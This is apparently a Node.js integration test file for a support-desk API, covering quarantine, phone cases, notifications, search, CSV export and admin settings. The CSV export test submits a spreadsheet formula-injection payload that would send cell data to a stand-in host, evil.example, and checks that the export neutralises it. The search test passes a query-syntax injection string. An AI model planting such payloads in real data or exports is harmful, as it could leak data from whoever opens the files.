import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomUUID } from 'node:crypto';
import { testedDialects } from '../support/databases.js';
import { Client, httpHarness, seedWorld, PASSWORD, type Harness, type World } from './http-harness.js';
import { PROCESS_INBOUND_JOB } from '../../src/app/ingest/receive-mail.js';
import type { InboundStatus, ReasonCode } from '../../src/domain/reason-codes.js';

const DAY = 24 * 3600 * 1000;

/** A stored inbound mail with the outcome given (null status: still waiting, as a dead job leaves it). */
async function mailWith(h: Harness, o: { from: string; subject: string; status: InboundStatus | null; reason?: ReasonCode | null; receivedAt?: Date; processingMs?: number }): Promise<string> {
  const id = randomUUID();
  const raw = Buffer.from(`From: ${o.from}\r\nSubject: ${o.subject}\r\nMessage-ID: <${id}@x>\r\n\r\nbody ${id}\r\n`);
  const received = o.receivedAt ?? new Date();
  await h.ctx.store.inbound.insert({ id, receivedAt: received.toISOString(), channel: 'smtp', envelopeFrom: o.from, envelopeTo: ['support@support.example.com'], remoteIp: null, messageId: `<${id}@x>`, sha256: createHash('sha256').update(raw).digest('hex'), raw });
  if (o.status) {
    await h.ctx.store.inbound.setOutcome(id, {
      status: o.status, reason: o.reason ?? null, detail: null, caseId: null, fromAddress: o.from, subject: o.subject, scan: null, auth: null, decisions: [],
      processedAt: new Date(received.getTime() + (o.processingMs ?? 5)).toISOString(), processingMs: o.processingMs ?? 5,
    });
  }
  return id;
}

for (const dialect of testedDialects()) {
  describe(`HTTP desk: overview, quarantine, phone cases, notifications, search, CSV and admin on ${dialect}`, () => {
    let h: Harness;
    let w: World;
    const as: Record<'alice' | 'anna' | 'bob' | 'agent' | 'admin', Client> = {} as never;
    before(async () => {
      h = await httpHarness(dialect);
      w = await seedWorld(h);
      for (const name of ['alice', 'anna', 'bob', 'agent', 'admin'] as const) {
        as[name] = new Client(h.app);
        assert.equal((await as[name].login(w[name].email, PASSWORD)).statusCode, 200);
      }
    });
    after(async () => h.dispose());

    test('overview: open cases by status and age, mails per day by outcome, median/p99 and top rejection reasons', async () => {
      const now = new Date();
      const yesterdayNoon = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), now.getUTCDate()) - DAY / 2);
      for (const [status, reason, ms] of [
        ['accepted', null, 1000], ['accepted', null, 2000], ['rejected', 'attachment_type', 60_000], ['rejected', 'attachment_type', 3000],
        ['quarantined', 'virus', 4000], ['ignored', 'auto_reply', 500], ['deferred', 'scan_unavailable', 9_999_999],
      ] as const) {
        await mailWith(h, { from: 'x@example.org', subject: 'load', status, reason, receivedAt: yesterdayNoon, processingMs: ms });
      }
      await mailWith(h, { from: 'x@example.org', subject: 'too old', status: 'rejected', reason: 'loop', receivedAt: new Date(now.getTime() - 20 * DAY) });
      assert.equal((await as.alice.request('GET', '/api/overview')).statusCode, 403);
      const o = (await as.agent.request('GET', '/api/overview')).json();
      assert.deepEqual(o.openCases.ageBuckets, ['<1d', '1-3d', '3-7d', '7-30d', '>30d']);
      const byStatus = Object.fromEntries(o.openCases.byStatus.map((s: { status: string; total: number; ages: number[] }) => [s.status, [s.total, s.ages]]));
      assert.deepEqual(byStatus, { new: [1, [1, 0, 0, 0, 0]], open: [0, [0, 0, 0, 0, 0]], waiting_for_customer: [1, [1, 0, 0, 0, 0]] });
      assert.equal(o.mailsPerDay.length, 14);
      const y = o.mailsPerDay.find((d: { day: string }) => d.day === yesterdayNoon.toISOString().slice(0, 10));
      assert.equal(y.total, 7);
      assert.equal(y.byStatus.accepted, 2);
      assert.equal(y.byStatus.rejected, 2);
      assert.equal(y.byStatus.deferred, 1);
      // Durations with an outcome: 500, 1000, 2000, 3000, 4000, 60000 (the deferred mail has none yet).
      assert.equal(y.medianMs, 2000);
      assert.equal(y.p99Ms, 60_000);
      const today = o.mailsPerDay[13];
      assert.equal(today.day, now.toISOString().slice(0, 10));
      assert.equal(today.total, 2, 'the two mails of the seed');
      assert.deepEqual(o.topRejectionReasons, [{ reason: 'attachment_type', count: 2 }, { reason: 'case_closed', count: 1 }, { reason: 'virus', count: 1 }]);
    });

    test('quarantine: list, release (not a virus), reprocess, raw download, delete by an admin', async () => {
      const authFailed = await mailWith(h, { from: w.alice.email, subject: 'held: dmarc', status: 'quarantined', reason: 'auth_failed' });
      const virus = await mailWith(h, { from: w.alice.email, subject: 'held: virus', status: 'quarantined', reason: 'virus' });
      const deferred = await mailWith(h, { from: w.alice.email, subject: 'waiting for clamd', status: 'deferred', reason: 'scan_unavailable' });
      const dead = await mailWith(h, { from: w.alice.email, subject: 'parser crashed', status: null });
      const now = new Date().toISOString();
      await h.ctx.store.jobs.enqueue({ id: randomUUID(), kind: PROCESS_INBOUND_JOB, key: `dead:${dead}`, payload: { mailId: dead }, runAt: now, now });
      const [job] = await h.ctx.store.jobs.claim([PROCESS_INBOUND_JOB], now, new Date(Date.now() + 60_000).toISOString(), 'test', 10);
      await h.ctx.store.jobs.fail(job!.id, 'parser crashed: boom', null, now);

      assert.equal((await as.alice.request('GET', '/api/admin/quarantine')).statusCode, 403);
      const list = (await as.agent.request('GET', '/api/admin/quarantine')).json().mails as Array<{ id: string; status: string; job: { status: string; lastError: string } | null }>;
      const ids = list.map((m) => m.id);
      for (const id of [authFailed, virus, deferred, dead]) assert.ok(ids.includes(id), id);
      assert.ok(!ids.includes(w.aliceMailId), 'accepted mails are not in the quarantine');
      assert.deepEqual(list.find((m) => m.id === dead)!.job, { status: 'dead', attempts: 1, lastError: 'parser crashed: boom' });

      const refused = await as.agent.request('POST', `/api/mails/${virus}/release`);
      assert.equal(refused.statusCode, 409);
      assert.equal(refused.json().error.code, 'not_reprocessable');
      assert.equal((await as.agent.request('POST', `/api/mails/${deferred}/release`)).statusCode, 409, 'only quarantined mails are released');
      const released = await as.agent.request('POST', `/api/mails/${authFailed}/release`);
      assert.equal(released.statusCode, 202, released.body);
      assert.equal(released.json().mail.status, 'received');
      const queued = await h.ctx.store.jobs.list({ status: 'queued', kind: PROCESS_INBOUND_JOB });
      assert.ok(queued.some((j) => j.payload.mailId === authFailed), 'a new processing job');
      const audit = await h.rt.db.db.selectFrom('audit_log').selectAll().where('action', '=', 'inbound.release').where('target', '=', authFailed).execute();
      assert.equal(audit.length, 1);
      assert.equal(audit[0]!.actor, w.agent.id);
      assert.equal((await as.agent.request('POST', `/api/mails/${deferred}/reprocess`)).statusCode, 202);
      assert.equal((await as.agent.request('POST', `/api/mails/${w.aliceMailId}/reprocess`)).json().error.code, 'not_reprocessable');

      const raw = await as.agent.request('GET', `/api/mails/${virus}/raw`);
      assert.equal(raw.statusCode, 200);
      assert.equal(raw.headers['content-type'], 'message/rfc822');
      assert.equal(raw.headers['content-disposition'], `attachment; filename="mail-${virus}.eml"`);
      assert.equal(raw.headers['x-content-type-options'], 'nosniff');
      assert.match(raw.body, /^From: alice@acme\.example\r\nSubject: held: virus/);
      assert.equal((await as.alice.request('GET', `/api/mails/${virus}/raw`)).statusCode, 403);

      assert.equal((await as.agent.request('DELETE', `/api/mails/${virus}`)).statusCode, 403, 'deleting is for admins');
      const del = await as.admin.request('DELETE', `/api/mails/${virus}`);
      assert.equal(del.statusCode, 200, del.body);
      assert.equal(del.json().mail.status, 'quarantined', 'the status stays');
      assert.match(del.json().mail.detail, /content deleted by an administrator/);
      assert.equal((await as.agent.request('GET', `/api/mails/${virus}/raw`)).statusCode, 404);
      assert.equal((await as.alice.request('GET', `/api/mails/${virus}`)).json().mail.status, 'quarantined', 'the sender still sees what happened');
      const delDead = await as.admin.request('DELETE', `/api/mails/${dead}`);
      assert.equal(delDead.json().mail.status, 'ignored', 'a mail waiting for processing is settled');
    });

    test('phone case: find the customer, create a contact with organisation, open the case with a first reply', async () => {
      const found = (await as.agent.request('GET', '/api/customers?q=ACME')).json().customers.map((c: { email: string }) => c.email).sort();
      assert.deepEqual(found, ['alice@acme.example', 'anna@acme.example']);
      assert.equal((await as.alice.request('GET', '/api/customers?q=acme')).statusCode, 403);
      assert.deepEqual((await as.agent.request('GET', '/api/customers?q=%25')).json().customers, [], '% is literal');
      const created = await as.agent.request('POST', '/api/customers', { email: 'Carl@Initech.example', name: 'Carl Caller', organisation: 'Initech', customerNo: 'K-4711' });
      assert.equal(created.statusCode, 201, created.body);
      assert.equal(created.json().customer.email, 'carl@initech.example');
      assert.equal(created.json().customer.organisation.customerNo, 'K-4711');
      assert.deepEqual((await as.agent.request('GET', '/api/customers?q=k-4711')).json().customers.map((c: { name: string }) => c.name), ['Carl Caller']);
      assert.equal((await as.agent.request('POST', '/api/customers', { email: 'carl@initech.example', name: 'Again' })).json().error.code, 'email_taken');

      const res = await as.agent.request('POST', '/api/cases', { subject: 'Phone: licence', body: 'Carl called about his licence.', customerEmail: 'carl@initech.example', reply: 'As discussed: the new key is on its way.' });
      assert.equal(res.statusCode, 201, res.body);
      const c = res.json().case;
      assert.equal(c.channel, 'phone');
      assert.equal(c.status, 'waiting_for_customer', 'the first reply went out');
      const out = await h.ctx.store.outbound.list({ caseId: c.id });
      assert.deepEqual(out.map((m) => [m.kind, m.recipients]), [['agent_reply', ['carl@initech.example']]]);
      assert.equal((await as.alice.request('POST', '/api/cases', { subject: 's', body: 'b', reply: 'r' })).statusCode, 403, 'customers cannot answer their own case');
    });

    test('notifications: new customer replies on unassigned or own cases; read marks; opt-in mails', async () => {
      const n = w.aliceCase.number;
      assert.equal((await as.alice.request('GET', '/api/notifications')).statusCode, 403);
      await as.agent.request('POST', '/api/notifications/read');
      assert.equal((await as.agent.request('GET', '/api/notifications')).json().unread, 0);
      assert.equal((await as.alice.request('POST', `/api/cases/${n}/replies`, { body: 'NOTIFY-ME please look' })).statusCode, 201);
      const list = (await as.agent.request('GET', '/api/notifications')).json();
      assert.equal(list.unread, 1);
      assert.equal(list.notifications[0].caseNumber, n);
      assert.match(list.notifications[0].text, /NOTIFY-ME/);
      assert.equal((await as.agent.request('POST', '/api/notifications/read')).statusCode, 200);
      assert.equal((await as.agent.request('GET', '/api/notifications')).json().unread, 0);

      assert.equal((await as.alice.request('PATCH', '/api/auth/profile', { notifyByEmail: true })).statusCode, 403, 'the opt-in is for agents');
      const opt = await as.agent.request('PATCH', '/api/auth/profile', { notifyByEmail: true });
      assert.equal(opt.json().preferences.notifyByEmail, true);
      assert.equal((await as.agent.request('GET', '/api/auth/me')).json().preferences.notifyByEmail, true);
      await as.alice.request('POST', `/api/cases/${n}/replies`, { body: 'second reply' });
      const mails = (await h.ctx.store.outbound.list({ caseId: w.aliceCase.id })).filter((m) => m.kind === 'agent_notification');
      assert.deepEqual(mails.map((m) => m.recipients), [['agent@support.example']]);

      // Assigned to the admin: the agent is no longer notified, neither in the desk nor by mail.
      assert.equal((await as.agent.request('POST', `/api/cases/${n}/assign`, { assigneeId: w.admin.id })).statusCode, 200);
      await as.agent.request('POST', '/api/notifications/read');
      await as.alice.request('POST', `/api/cases/${n}/replies`, { body: 'third reply' });
      assert.equal((await as.agent.request('GET', '/api/notifications')).json().unread, 0);
      // The admin never marked anything read: the last 7 days of the case (opening message, the e-mailed HTML reply, three portal replies).
      assert.equal((await as.admin.request('GET', '/api/notifications')).json().notifications.filter((x: { caseNumber: number }) => x.caseNumber === n).length, 5);
      assert.equal((await h.ctx.store.outbound.list({ caseId: w.aliceCase.id })).filter((m) => m.kind === 'agent_notification').length, 1);
    });

    test('full-text search: word prefixes, new messages are found at once, customers never match notes', async () => {
      const nums = async (c: Client, q: string) => (await c.request('GET', `/api/cases?q=${encodeURIComponent(q)}`)).json().cases.map((x: { number: number }) => x.number);
      assert.deepEqual(await nums(as.agent, 'smok'), [w.aliceCase.number], 'prefix of "smokes"');
      assert.deepEqual(await nums(as.agent, 'printer smokes'), [w.aliceCase.number], 'subject and message words together');
      assert.deepEqual(await nums(as.agent, 'printer globex'), [], 'every word must match');
      assert.deepEqual(await nums(as.agent, 'fluxkompensator'), []);
      await as.agent.request('POST', `/api/cases/${w.bobCase.number}/replies`, { body: 'Replace the Fluxkompensator, then restart.' });
      assert.deepEqual(await nums(as.agent, 'FLUXKOMP'), [w.bobCase.number], 'indexed when written');
      assert.deepEqual(await nums(as.bob, 'fluxkompensator'), [w.bobCase.number]);
      assert.deepEqual(await nums(as.alice, 'fluxkompensator'), [], 'not hers');
      const s = await as.alice.request('POST', '/api/cases', { subject: 'Störung der Übertragung', body: 'Größe unbekannt' });
      assert.deepEqual(await nums(as.alice, 'störung'), [s.json().case.number]);
      assert.deepEqual(await nums(as.alice, 'größe'), [s.json().case.number]);
      await as.agent.request('POST', `/api/cases/${s.json().case.number}/notes`, { body: 'internal: zebrafish' });
      assert.deepEqual(await nums(as.agent, 'zebrafish'), [s.json().case.number]);
      assert.deepEqual(await nums(as.alice, 'zebrafish'), [], 'customers never match internal notes');
      assert.deepEqual(await nums(as.agent, '"*) OR NEAR(x'), [], 'query syntax is not passed through');
    });

    test('W8: the CSV export prefixes formulas and quotes every cell; staff only', async () => {
      const evil = await as.alice.request('POST', '/api/cases', { subject: '=HYPERLINK("http://evil.example/?"&A1,"click")', body: 'x' });
      assert.equal(evil.statusCode, 201);
      await as.alice.request('POST', '/api/cases', { subject: '+1 and "quotes"', body: 'y' });
      assert.equal((await as.alice.request('GET', '/api/cases.csv')).statusCode, 403);
      const res = await as.agent.request('GET', '/api/cases.csv');
      assert.equal(res.statusCode, 200);
      assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal(res.headers['content-disposition'], 'attachment; filename="cases.csv"');
      const lines = res.body.replace(/^\uFEFF/, '').split('\r\n');
      assert.equal(lines[0], '"number","subject","status","channel","customer","customer_email","organisation","customer_no","product","version","assignee","created_at","last_activity_at","closed_at"');
      assert.ok(lines.some((l) => l.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)), res.body);
      assert.ok(lines.some((l) => l.includes(`"'+1 and ""quotes"""`)));
      assert.ok(!/(^|,)"[=+@-]/.test(lines.slice(1).join('\n').replace(/"\d{4}-\d\d-\d\dT[^"]*"/g, '""')), 'no cell starts with a formula character');
      const filtered = (await as.agent.request('GET', '/api/cases.csv?queue=waiting')).body.split('\r\n').filter(Boolean);
      const waiting = (await as.agent.request('GET', '/api/cases?queue=waiting')).json().cases as Array<{ number: number }>;
      assert.ok(waiting.length >= 1);
      assert.deepEqual(filtered.slice(1).map((l) => Number(JSON.parse(l.split(',')[0]!))), waiting.map((c) => c.number), 'the same filter as the list');
    });

    test('status: staff set new/open/waiting; closed cases and customers are refused', async () => {
      const n = w.bobCase.number;
      const res = await as.agent.request('POST', `/api/cases/${n}/status`, { status: 'open' });
      assert.equal(res.statusCode, 200);
      assert.equal(res.json().case.status, 'open');
      assert.equal((await as.bob.request('POST', `/api/cases/${n}/status`, { status: 'new' })).statusCode, 403);
      assert.equal((await as.agent.request('POST', `/api/cases/${n}/status`, { status: 'closed' })).statusCode, 400);
      await as.agent.request('POST', `/api/cases/${n}/close`);
      assert.equal((await as.agent.request('POST', `/api/cases/${n}/status`, { status: 'open' })).json().error.code, 'case_closed');
    });

    test('admin: organisations, organisation admins, products and versions, settings and template previews', async () => {
      assert.equal((await as.agent.request('GET', '/api/admin/organisations')).statusCode, 403);
      const created = await as.admin.request('POST', '/api/admin/organisations', { name: 'Umbrella', customerNo: 'K-1' });
      assert.equal(created.statusCode, 201, created.body);
      assert.equal((await as.admin.request('POST', '/api/admin/organisations', { name: 'Umbrella 2', customerNo: 'K-1' })).json().error.details.field, 'customerNo');
      const acme = w.alice.organisationId!;
      assert.equal((await as.admin.request('PATCH', `/api/admin/organisations/${acme}`, { customerNo: 'K-1' })).statusCode, 400, 'taken');
      const patched = await as.admin.request('PATCH', `/api/admin/organisations/${acme}`, { customerNo: 'K-2' });
      assert.equal(patched.json().organisation.customerNo, 'K-2');
      const orgs = (await as.admin.request('GET', '/api/admin/organisations')).json().organisations;
      assert.equal(orgs.find((o: { id: string }) => o.id === acme).members, 2);
      assert.equal((await as.admin.request('POST', `/api/admin/organisations/${acme}/admins`, { userId: w.bob.id, orgAdmin: true })).statusCode, 400, 'Bob is not in Acme');
      assert.equal((await as.admin.request('POST', `/api/admin/organisations/${acme}/admins`, { userId: w.alice.id, orgAdmin: true })).statusCode, 200);
      assert.equal((await h.ctx.store.users.findById(w.alice.id))!.orgAdmin, true);

      const p = await as.admin.request('POST', '/api/admin/products', { name: 'Gizmo', versions: ['1', '2'] });
      assert.equal(p.statusCode, 201, p.body);
      const gizmo = p.json().product;
      const v1 = gizmo.versions.find((v: { name: string }) => v.name === '1').id;
      assert.equal((await as.admin.request('POST', `/api/admin/product-versions/${v1}/deactivate`)).json().product.versions.find((v: { id: string }) => v.id === v1).active, false);
      const offered = (await as.alice.request('GET', '/api/products')).json().products.find((x: { name: string }) => x.name === 'Gizmo');
      assert.deepEqual(offered.versions, ['2']);
      const retired = await as.alice.request('POST', '/api/cases', { subject: 's', body: 'b', product: 'Gizmo', version: '1' });
      assert.equal(retired.json().error.details.field, 'version');
      assert.equal((await as.alice.request('POST', '/api/cases', { subject: 's', body: 'b', product: 'Gizmo', version: '2' })).statusCode, 201);
      assert.equal((await as.admin.request('POST', `/api/admin/products/${gizmo.id}/versions`, { name: '3' })).json().product.versions.length, 3);
      await as.admin.request('POST', `/api/admin/products/${gizmo.id}/deactivate`);
      assert.ok(!(await as.alice.request('GET', '/api/products')).json().products.some((x: { name: string }) => x.name === 'Gizmo'));
      assert.equal((await as.alice.request('POST', '/api/cases', { subject: 's', body: 'b', product: 'Gizmo' })).json().error.details.field, 'product');
      assert.equal((await as.admin.request('GET', '/api/admin/products')).json().products.find((x: { name: string }) => x.name === 'Gizmo').active, false);

      const settings = await as.admin.request('GET', '/api/admin/settings');
      assert.ok(settings.json().settings.attachmentPolicy.allowedImageTypes.includes('image/png'));
      assert.equal(settings.json().settings.maxMessageBytes, 25 * 1024 * 1024);
      assert.ok(!settings.body.includes('test-secret'), 'no secret in the settings view');

      const de = (await as.admin.request('GET', '/api/admin/templates/receipt/preview?lang=de')).json();
      const en = (await as.admin.request('GET', '/api/admin/templates/receipt/preview?lang=en')).json();
      assert.match(de.subject, /^\[Case #10042\] Eingangsbestätigung: /, 'as the mail is sent: the case token first');
      assert.match(en.subject, /^\[Case #10042\] Received: /);
      assert.match(en.html, /#10042/);
      const notice = (await as.admin.request('GET', '/api/admin/templates/notice/preview?lang=en')).json();
      assert.match(notice.text, /Reason: .+/);
      assert.ok(!notice.text.includes('{portal}'));
      assert.equal((await as.admin.request('GET', '/api/admin/templates/nope/preview')).statusCode, 400);
      assert.equal((await as.agent.request('GET', '/api/admin/templates/receipt/preview')).statusCode, 403);
    });
  });
}
